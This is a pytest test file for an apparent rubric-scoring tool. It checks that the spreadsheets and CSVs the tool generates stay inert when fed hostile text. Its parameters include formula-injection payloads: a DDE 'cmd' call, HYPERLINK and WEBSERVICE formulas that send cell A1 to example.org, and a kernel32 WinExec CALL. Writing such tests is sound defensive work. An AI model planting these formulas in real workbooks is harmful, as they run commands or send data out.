"""Text from rubrics, reports, submissions and registers is text in what the desk hands out: forms, drafts, marked copies, overviews."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest

from scorekit.cli import main
from tests.test_nothing_live import FORMULA, HOSTILE, KEYS, NUMBER, inert, parts, shared, steers

SHORT = [t for t in HOSTILE if len(t) < 1000]
CELLS = [
    t for t in SHORT if "_x005F_" not in t and not openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.search(t) and not set("\ufffe\uffff") & set(t)
]
"""Strings that a workbook of a sender can hold, openpyxl being the sender."""
CHECKS = re.compile(r'scorekit_options_\d+|-?[\d.]+|""|IF\(ISNUMBER\((\w+)\),AND\((TRUE|,|INT|\1|[=<>().\d-])+\),OR\((\1=""|,)*\)\)')
"""Formulas of checks, their texts taken out."""


def live(path: Path) -> list[str]:
    """What in a workbook is live, or no XML: nothing but links within it, checks of our own making, and the printer's numbers."""
    found = [f for f in inert(path) if "hyperlink" not in f]
    for name, text in parts(path):
        ElementTree.fromstring(text.encode("utf-8"))
        found += [f"{name}: {link}" for link in re.findall(r"<hyperlink [^>]*>", text) if "r:id" in link or "location=" not in link]
        checks = re.findall(r"<formula[12]>([^<]*)<", text)
        found += [f"{name}: {check}" for check in checks if not CHECKS.fullmatch(re.sub(r'"(?:[^"]|"")*"', '""', html.unescape(check)))]
        names = re.findall(r"<definedName ([^>]*)>([^<]*)<", text)
        found += [
            f"{name}: {to}"
            for which, to in names
            if not re.search(r"_xlnm\.(Print_Titles|Print_Area|_FilterDatabase)|scorekit_options_\d+", which)
        ]
    return found


def tables(folder: Path) -> list[str]:
    """Cells of the CSV files in a folder that a spreadsheet would take for formulas."""
    texts = [path.read_bytes().decode("utf-8-sig") for path in folder.glob("*.csv")]
    rows = [row for text in texts for row in csv.reader(io.StringIO(text, newline=""))]
    assert rows
    return [c[:40] for row in rows for c in row if c.startswith(FORMULA) and not NUMBER.fullmatch(c)]


def fields(texts: list[str]) -> dict[str, Any]:
    """A field for each string in turn for the unit, the office, a panel and a survey, the string wherever a rubric holds text."""
    found: dict[str, Any] = {}
    for i, text in enumerate(texts):
        told = {"no": text, "points": 5, "reading": text, "wording": text, "evidence": text, "owner": text, "remedy": text}
        panel = {"type": "object", "additionalProperties": {"type": ["number", "null"], "minimum": 0, "maximum": 10}}
        kinds: list[dict[str, Any]] = [
            {"type": "number", "minimum": 0, "x-unit": text, "x-form": {"blank": [text], "evidence": text}, "rule": {"mark": {}}},
            {"enum": [text, "乙" + text, "丙"], "x-source": "office", "rule": {"grade": {"shares": {text: 1, "丙": 0}}}},
            {**panel, "x-source": {"who": "panel", "raters": [f"{text}{i}", f"乙{i}"]}, "rule": {"panel_mean": {}}},
            {
                "type": "object",
                "x-source": {"who": "survey", "options": [f"{text}{i}", f"乙{i}"]},
                "rule": {"votes": {"worth": {f"{text}{i}": 1}}},
            },
        ]
        node = kinds[i % 4]
        rule = node.pop("rule")
        found[f"f{i}"] = {**node, "title": f"{text}·{i}", "description": text, "x-criterion": {**told, "rule": rule}}
    item = {"name": {"type": "string", "title": texts[0]}, "level": {"enum": texts, "title": "级别"}}
    found["honours"] = {"type": "array", "title": texts[0], "items": {"type": "object", "properties": item}}
    return found


def rubric(texts: list[str]) -> dict[str, Any]:
    named = {"unit": {"type": "string", "title": "单位名称"}, "category": {"enum": ["企业", *dict.fromkeys(texts)], "title": "类别"}}
    return {
        "title": texts[0],
        "description": texts[0],
        "type": "object",
        "properties": {**named, **fields(texts)},
        "x-rubric": {
            "language": 1, "id": "plain-text", "version": texts[0], "unit": "unit", "category": "category",
            "notes": texts, "reading": texts[0], "sources": {"S1": {"title": texts[0], "address": texts[0]}},
        },
    }  # fmt: skip


def written(path: Path, document: Any) -> str:
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return str(path)


def run(capsys: pytest.CaptureFixture[str], *words: object, lang: str = "zh") -> str:
    """What a command says; it ends well."""
    status = main(["--lang", lang, *map(str, words)])
    said = "".join(capsys.readouterr())
    assert (status, steers(said)) == (0, set()), said
    return said


@pytest.mark.parametrize("kind", ["unit", "units", "office", "panel", "survey"])
def test_nothing_in_a_form_is_live(kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    register = tmp_path / "名册.csv"
    with register.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([["单位名称", "类别"], *([k, "企业"] for k in KEYS if "\x00" not in k and len(k) < 1000)])
    listed = ["--register", register] if kind in ("units", "office") else []
    seen: set[str] = set()
    for turn in (0, 2):
        texts = SHORT[turn:] + SHORT[:turn]
        document = written(tmp_path / "r.json", rubric(texts))
        run(capsys, "template", document, "--for", kind, "-o", tmp_path / "f.xlsx", "--force", *listed)
        assert live(tmp_path / "f.xlsx") == []
        book = openpyxl.load_workbook(tmp_path / "f.xlsx")
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink is not None] == []
        seen |= shared(tmp_path / "f.xlsx")
    titles = {
        f"{t}·{i}"
        for turn in (0, 2)
        for i, t in enumerate(SHORT[turn:] + SHORT[:turn])
        if t in CELLS and "\r" not in t and "_x" not in t and t.isprintable()
    }
    heads = [s for s in seen if any(s.startswith(t) for t in ("=HYPERLINK", "=cmd|", "@SUM", "<script>"))]
    assert heads
    if kind == "unit":
        assert titles <= seen


@pytest.mark.parametrize(
    "text", [t if i % 9 == 0 or set(t) & set("\x00\x1b\ufffe") else pytest.param(t, marks=pytest.mark.long) for i, t in enumerate(HOSTILE)]
)
def test_a_text_at_the_head_of_a_rubric_is_dead_in_its_form_and_in_the_results(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = written(tmp_path / "r.json", rubric([text]))
    for kind in ("unit", "units"):
        run(capsys, "template", document, "--for", kind, "-o", tmp_path / "f.xlsx", "--force")
        assert live(tmp_path / "f.xlsx") == []
    (tmp_path / "in").mkdir()
    unit = {"unit": "甲", "category": "企业", "f0": 3}
    written(tmp_path / "in/甲.json", unit)
    run(capsys, "evaluate", tmp_path / "in", "--rubric", document, "--out", tmp_path / "out")
    run(capsys, "publish", tmp_path / "out", "-o", tmp_path / "public")
    run(capsys, "status", tmp_path / "in", "--rubric", document, "-o", tmp_path / "status")
    books = [tmp_path / "out/ranking.xlsx", tmp_path / "public/公示名单.xlsx", tmp_path / "status/status.xlsx"]
    assert [live(book) for book in books] == [[], [], []]
    assert [tables(book.parent) for book in books] == [[], [], []]


def test_nothing_in_a_draft_is_live(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = {**rubric(SHORT[:4]), "title": HOSTILE[0]}
    for i, text in enumerate(SHORT):
        document["properties"][f"n{i}"] = {"type": "number", "title": f"会员{i}人数", "x-unit": "人", "description": text}
        document["properties"][f"t{i}"] = {"type": "string", "title": f"负责人{i}"}
        document["properties"][f"e{i}"] = {"enum": [text, f"优秀{i}"], "title": f"等级{i}"}
    told = [
        f"{text}会员{i}人数{i + 3}人{text}。\n负责人{i}：{text}\n等级{i}为{text}。\n" for i, text in enumerate(SHORT) if "\x00" not in text
    ]
    report = tmp_path / "=1+1 报告.txt"
    report.write_text("".join(told), encoding="utf-8")
    rubric_path = written(tmp_path / "r.json", document)
    run(capsys, "extract", report, "--rubric", rubric_path)
    run(capsys, "extract", report, "--rubric", rubric_path, "-o", tmp_path / "d.xlsx")
    assert live(tmp_path / "d.xlsx") == []
    book = openpyxl.load_workbook(tmp_path / "d.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink is not None] == []
    proposed = sum(c.value is not None for c in cells if c.column == 3)
    assert proposed > 60
    run(capsys, "extract", report, "--rubric", rubric_path, "-o", tmp_path / "d.json")
    draft = json.loads((tmp_path / "d.json").read_text(encoding="utf-8"))
    assert "x-draft" in draft
    (tmp_path / "in").mkdir()
    (tmp_path / "in/d.json").write_bytes((tmp_path / "d.json").read_bytes())
    (tmp_path / "in/e.xlsx").write_bytes((tmp_path / "d.xlsx").read_bytes())
    run(capsys, "validate", tmp_path / "in", "--rubric", rubric_path, "--out", tmp_path / "out")
    assert [live(b) for b in (tmp_path / "out").glob("*.xlsx")] == [[] for _ in (tmp_path / "out").glob("*.xlsx")]
    assert tables(tmp_path / "out") == []


# -------------------------------------------------------------------- what goes back

SMALL: dict[str, Any] = {
    "title": "退回标准",
    "type": "object",
    "properties": {
        "unit": {"type": "string", "title": "单位名称"},
        "rate": {"type": "number", "maximum": 10, "title": "完成数", "x-criterion": {"points": 10, "rule": {"mark": {}}, "reading": "例"}},
        "note": {"type": "string", "title": "说明"},
    },
    "x-rubric": {"language": 1, "id": "sent-back", "version": "1"},
}


def sent(path: Path, rows: list[list[Any]], title: str = "=1+1", texts: bool = True) -> Any:
    """A sender's workbook, its texts texts."""
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.title = title
    for r, row in enumerate([["单位名称", "完成数", "说明"], *rows], 1):
        for c, value in enumerate(row, 1):
            cell = sheet.cell(r, c, value)
            if texts and isinstance(value, str):
                cell.data_type = "s"
    book.save(path)
    return book


@pytest.fixture
def desk(tmp_path: Path) -> list[str]:
    (tmp_path / "in").mkdir()
    return [str(tmp_path / "in"), "--rubric", written(tmp_path / "r.json", SMALL)]


def test_texts_of_a_sender_are_texts_in_the_marked_copy_and_its_list(
    desk: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sent(tmp_path / "in/@SUM(A1)&'.xlsx", [[f"{t}·{i}", t, t] for i, t in enumerate(CELLS)])
    with (tmp_path / "in/-2+3.csv").open("w", encoding="utf-8-sig", newline="") as file:
        rows = [[f"{t}·表{i}", t, t] for i, t in enumerate(SHORT) if "\x00" not in t]
        csv.writer(file).writerows([["单位名称", "完成数", "说明"], *rows])
    written(tmp_path / "in/=1+1.json", [{"unit": f"{t}·文{i}", "rate": t, t: t} for i, t in enumerate(SHORT)])
    run(capsys, "validate", *desk, "--out", tmp_path / "out")
    books = sorted((tmp_path / "out").glob("*.xlsx"))
    assert [b.name.rpartition("_")[2] for b in books] == ["错误清单.xlsx", "错误清单.xlsx", "批注.xlsx"]
    assert [live(b) for b in books] == [[], [], []]
    assert tables(tmp_path / "out") == []
    copy = openpyxl.load_workbook(books[-1])
    first, last = copy.worksheets
    read = [[c.value for c in row][1:] for row in first.iter_rows(min_row=2)]
    assert read == [[t] * 2 for t in CELLS]
    assert {c.data_type for row in first.iter_rows(min_row=2) for c in row} == {"s"}
    assert sum(c.comment is not None for row in first.iter_rows() for c in row) > 50
    assert last.max_row > 50


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org/?"&A1,"点我")',
        '=_xlfn.WEBSERVICE("http://example.org/"&A1)',
        '=RTD("a.b",,"c")',
        "=[1]Sheet1!A1",
        "='[other.xlsx]Sheet1'!A1",
        '=IF(1=1,CALL("kernel32","WinExec","JCJ","calc",0),0)',
        '=IMAGE("http://example.org/a.png")',
    ],
)
@pytest.mark.parametrize("where", ["cell", "check", "name", "look"])
def test_a_workbook_whose_formulas_reach_out_of_it_is_not_copied(
    formula: str, where: str, desk: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "in/甲.xlsx"
    sent(path, [["甲", "many", "x"]], "表", texts=False)
    book = openpyxl.load_workbook(path)
    sheet: Any = book.active
    if where == "cell":
        sheet["F9"] = formula
    elif where == "check":
        from openpyxl.worksheet.datavalidation import DataValidation

        check = DataValidation(type="custom", formula1=formula[1:])
        sheet.add_data_validation(check)
        check.add("F9")
    elif where == "name":
        from openpyxl.workbook.defined_name import DefinedName

        book.defined_names["a"] = DefinedName("a", attr_text=formula[1:])
    else:
        from openpyxl.formatting.rule import FormulaRule

        sheet.conditional_formatting.add("F9", FormulaRule(formula=[formula[1:]]))
    book.save(path)
    run(capsys, "validate", *desk, "--out", tmp_path / "out")
    assert [p.name for p in (tmp_path / "out").glob("*.xlsx")] == ["甲_错误清单.xlsx"]
    assert live(tmp_path / "out/甲_错误清单.xlsx") == []
    assert "以外" in "".join(shared(tmp_path / "out/甲_错误清单.xlsx"))


def test_what_only_reckons_within_the_workbook_stays_in_the_copy_and_links_out_of_it_go(
    desk: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    book = sent(tmp_path / "in/甲.xlsx", [["甲", "many", "http://example.org"]], "表")
    sheet: Any = book.active
    sheet["F1"], sheet["F2"] = "=SUM(B2:B9)", '=HYPERLINK("#表!A1","回顶")&"a|b[1]"'
    sheet["C2"].hyperlink = "http://example.org"
    sheet["A2"].hyperlink = openpyxl.worksheet.hyperlink.Hyperlink(ref="A2", location="表!B2")
    book.save(tmp_path / "in/甲.xlsx")
    run(capsys, "validate", *desk, "--out", tmp_path / "out")
    copy = tmp_path / "out/甲_批注.xlsx"
    again: Any = openpyxl.load_workbook(copy).worksheets[0]
    assert (again["F1"].value, again["C2"].value, again["C2"].hyperlink) == ("=SUM(B2:B9)", "http://example.org", None)
    assert again["A2"].hyperlink.location == "表!B2"
    with zipfile.ZipFile(copy) as package:
        assert b"External" not in b"".join(package.read(n) for n in package.namelist() if n.endswith(".rels"))


# -------------------------------------------------------------------- own scores beside assessed ones, and who has sent what


def test_nothing_in_overviews_and_comparisons_is_live(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "in").mkdir()
    document = written(tmp_path / "r.json", {**rubric(SHORT), "title": "=1+1 标准"})
    texts = [t for t in SHORT if "\x00" not in t]
    with (tmp_path / "in/=2+2.csv").open("w", encoding="utf-8-sig", newline="") as file:
        heads = ["单位名称", "类别", "f0", "own:f0", "first:f0"]
        csv.writer(file).writerows([heads, *([f"{t}·{i}", "企业", "3", "9", "4"] for i, t in enumerate(texts))])
    with (tmp_path / "名册.csv").open("w", encoding="utf-8-sig", newline="") as file:
        lines = [[f"{t}·{i}", "企业", t] for i, t in enumerate(texts)] + [[f"{t}·未报{i}", "企业", t] for i, t in enumerate(texts)]
        csv.writer(file).writerows([["单位名称", "类别", "片区"], *lines])
    given = [tmp_path / "in", "--rubric", document, "--register", tmp_path / "名册.csv"]
    run(capsys, "evaluate", *given, "--out", tmp_path / "out")
    run(capsys, "status", *given, "--out", tmp_path / "status")
    with (tmp_path / "out/comparison.csv").open(encoding="utf-8-sig", newline="") as file:
        compared = list(csv.reader(file))
    assert len(compared) > 60
    assert "own" in compared[0]
    for folder, book in (("out", "ranking.xlsx"), ("status", "status.xlsx")):
        assert live(tmp_path / folder / book) == []
        assert tables(tmp_path / folder) == []
    for unit in (f"{t}·未报{i}" for i, t in enumerate(texts[:9])):
        run(capsys, "explain", tmp_path / "out", "--", unit)


@pytest.mark.parametrize("within", [False, True])
def test_raters_whom_a_submission_names_forge_no_line_and_no_formula(
    within: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    marks = {"type": "object", "title": "打分", "additionalProperties": {"type": "number"}, "x-source": "panel"}
    document = {**SMALL, "properties": {**SMALL["properties"], "marks": marks}}
    item = {"type": "object", "properties": {"name": {"type": "string", "title": "名称"}, "marks": marks}}
    document["properties"]["works"] = {"type": "array", "title": "作品", "items": item}
    (tmp_path / "in").mkdir()
    given = dict.fromkeys((t for t in SHORT if "\x00" not in t), 5)
    unit = {"unit": "甲", "rate": 3, **({"works": [{"name": "一", "marks": given}]} if within else {"marks": given})}
    written(tmp_path / "in/甲.json", unit)
    run(capsys, "evaluate", tmp_path / "in", "--rubric", written(tmp_path / "r.json", document), "--out", tmp_path / "out")
    assert tables(tmp_path / "out") == []
    assert live(tmp_path / "out/ranking.xlsx") == []
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out/inputs.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert {(row["unit"], row["file"], len(row)) for row in rows} == {("甲", "甲.json", 7)}
    start = "works[0].marks@" if within else "marks@"
    assert sum(row["field"].startswith(start) for row in rows) > 60
    run(capsys, "explain", tmp_path / "out", "甲")
